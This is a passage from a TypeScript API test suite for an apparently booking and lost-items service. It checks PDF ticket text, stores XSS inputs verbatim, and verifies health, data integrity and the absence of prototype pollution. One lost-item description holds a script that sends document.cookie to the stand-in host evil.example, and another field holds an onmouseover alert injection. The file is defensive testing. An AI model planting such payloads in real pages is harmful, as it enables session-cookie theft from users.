        ['again.pdf', again.rawPayload],
      ] as const) {
        const file = path.join(dir, name);
        fs.writeFileSync(file, pdf);
        const text = execFileSync('pdftotext', ['-layout', file, '-'], { encoding: 'utf8' });
        expect(text, name).toContain(booking.ticketId);
        expect(text, name).toContain(firstName);
        expect(text, name).toContain(lastName);
      }
    } finally {
      fs.rmSync(dir, { recursive: true, force: true });
    }

    const description = '<script>fetch("//evil.example?c="+document.cookie)</script> left on seat 4';
    const lost = await send(
      undefined,
      {
        method: 'POST',
        url: '/api/lostItems/createLostItem',
        payload: JSON.stringify({
          ...validBody('lostItems', refs),
          first_name: '<b onmouseover=alert(1)>Ali</b>',
          description,
        }),
        headers: { 'content-type': 'application/json' },
        auth: false,
      },
      'xss',
    );
    expect(lost.statusCode, lost.body).toBe(201);
    const stored = await send(
      undefined,
      { method: 'GET', url: `/api/lostItems/getLostItem/${lost.json()._id}`, auth: true },
      'xss',
    );
    expect(stored.json()).toMatchObject({ description, first_name: '<b onmouseover=alert(1)>Ali</b>' });
    const found = await send(
      undefined,
      {
        method: 'GET',
        url: `/api/lostItems/getAllLostItems?q=${encode('<script>fetch')}`,
        auth: true,
      },
      'xss',
    );
    expect(found.json().map((item: { _id: string }) => item._id)).toEqual([lost.json()._id]);
  }, 60_000);

  it('afterwards: healthy, every table there, the sentinel trip and booking untouched, every list answers', async () => {
    const health = await t.app.inject({ method: 'GET', url: '/api/health' });
    expect(health.statusCode).toBe(200);
    expect(health.json()).toEqual({ status: 'ok' });
    expect(await tables()).toEqual(tablesBefore);
    const staff = t.staff;
    expect((await staff.get(`/api/trips/getTrip/${sentinel.trip._id}`)).json()).toEqual(sentinel.trip);
    expect((await staff.get(`/api/bookings/getBooking/${sentinel.booking._id}`)).json()).toEqual(
      sentinel.booking,
    );
    const trips = await staff.get('/api/trips/getAllTrips');
    expect(trips.statusCode).toBe(200);
    expect(trips.json().map((trip: { _id: string }) => trip._id)).toContain(sentinel.trip._id);
    for (const endpoint of gets().filter(
      (e) => e.access === 'staff' && !e.route.includes(':') && e.answer === 'json',
    )) {
      expect((await staff.get(endpoint.url())).statusCode, endpoint.route).toBe(200);
    }
    // Nothing reached the prototype of every object (all requests ran in this process).
    expect(Object.keys(Object.prototype)).toEqual([]);
    expect(({} as Record<string, unknown>).isAdmin).toBeUndefined();
    totalRequests += 4;
    dialectRequests += 4;
    expect(dialectRequests).toBeGreaterThanOrEqual(PER_DIALECT_TARGET);
  });
});
